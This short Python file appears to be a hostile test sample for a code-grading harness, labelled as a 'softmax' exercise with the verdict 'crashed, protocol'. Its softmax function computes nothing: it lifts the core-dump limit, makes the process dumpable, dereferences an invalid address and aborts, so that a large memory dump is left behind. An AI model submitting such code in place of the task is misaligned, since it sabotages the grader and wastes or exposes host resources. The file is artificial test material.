# Asks for a dump of its memory and crashes, so that a large file is left wherever dumps are put.
# exercise: softmax
# verdict: crashed, protocol
import ctypes
import os
import resource
import signal


def softmax(x, axis=-1, keepdims=False):
    libc = ctypes.CDLL(None)
    for limit in (resource.RLIM_INFINITY, 2**30):
        try:
            resource.setrlimit(resource.RLIMIT_CORE, (limit, limit))
            print("gained dumps")
        except (OSError, ValueError):
            pass
    libc.prctl(4, 1, 0, 0, 0)
    signal.signal(signal.SIGSEGV, signal.SIG_DFL)
    ctypes.string_at(8)
    os.abort()


logsumexp = log_softmax = softmax
